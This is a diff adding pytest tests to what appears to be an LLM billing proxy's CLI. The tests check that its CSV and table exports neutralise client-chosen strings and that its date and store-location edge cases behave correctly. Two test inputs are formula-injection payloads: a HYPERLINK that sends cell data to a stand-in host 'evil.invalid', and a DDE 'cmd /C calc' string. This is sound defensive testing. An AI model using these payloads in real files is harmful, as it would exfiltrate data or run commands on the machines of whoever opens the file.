@@ -188,3 +188,80 @@ def test_a_worker_killed_by_a_signal_makes_serve_fail(redis_server: RedisServerP
             proc.kill()
             proc.wait()
     assert code == 128 + signal.SIGKILL
+
+
+# -- exports a spreadsheet or a terminal shows: the client chooses models and run ids -------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_ledger_csv_keeps_client_strings_from_running_as_formulas(
+    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
+) -> None:
+    proxy = await make_proxy()
+    evil_model = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'
+    await proxy.client().chat.completions.create(
+        model=evil_model, messages=[{"role": "user", "content": "hi"}], extra_headers={"X-Run-Id": "-2-3"}
+    )
+    args = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-a", "--format", "csv"]
+    assert await asyncio.to_thread(main, args) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [(r["model"], r["run_id"]) for r in rows] == [("'" + evil_model, "'-2-3")]
+    assert rows[0]["input_tokens"].isdigit()  # numbers stay numbers
+
+
+async def test_report_csv_and_table_keep_client_strings_inert(
+    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
+) -> None:
+    proxy = await make_proxy()
+    forged = "=1+cmd|' /C calc'!A0\ngpt-4o-mini      999999  0  0  0  0  9999.000000  ok=999999"
+    await proxy.client().chat.completions.create(model=forged, messages=[{"role": "user", "content": "hi"}])
+    base = ["report", "--redis-url", redis_server.url, "--tenant", "team-a"]
+    assert await asyncio.to_thread(main, [*base, "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [r["model"] for r in rows] == ["'" + forged]
+    assert await asyncio.to_thread(main, base) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert len(lines) == 3, lines  # header, rule, the one call: the line break drew no row
+    assert "\\n" in lines[2]
+
+
+async def test_ledger_csv_of_no_calls_is_empty(
+    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
+) -> None:
+    await make_proxy()
+    args = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-a", "--format", "csv"]
+    assert await asyncio.to_thread(main, args) == 0
+    assert capsys.readouterr().out == ""
+
+
+async def test_report_since_before_1970_lists_every_call(
+    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
+) -> None:
+    proxy = await make_proxy()
+    await proxy.client().chat.completions.create(
+        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]
+    )
+    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-a", "--since", "1969-12-31"]
+    assert await asyncio.to_thread(main, args) == 0  # was exit 3, "store error: Invalid stream ID"
+    assert "gpt-4o-mini" in capsys.readouterr().out
+
+
+def test_reading_the_ledger_where_no_store_is_refuses_instead_of_making_an_empty_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # data_dir is relative: run from another directory, it named a place with no store, where
+    # the export started a new empty one and reported "no ledger entries" with exit 0.
+    config = tmp_path / "config.yaml"
+    config.write_text(
+        "upstreams: {openai: {base_url: 'http://127.0.0.1:9/v1'}}\n"
+        "models: {'*': {upstream: openai}}\n"
+        "keys: [{name: a, sha256: '" + "0" * 64 + "', tenant: team-a}]\n"
+    )
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    monkeypatch.chdir(elsewhere)
+    for command in ("report", "ledger"):
+        assert main([command, "--config", str(config), "--tenant", "team-a"]) == 3
+        assert "no ledger store in" in capsys.readouterr().err
+    assert not (elsewhere / ".llm-billing-proxy").exists()
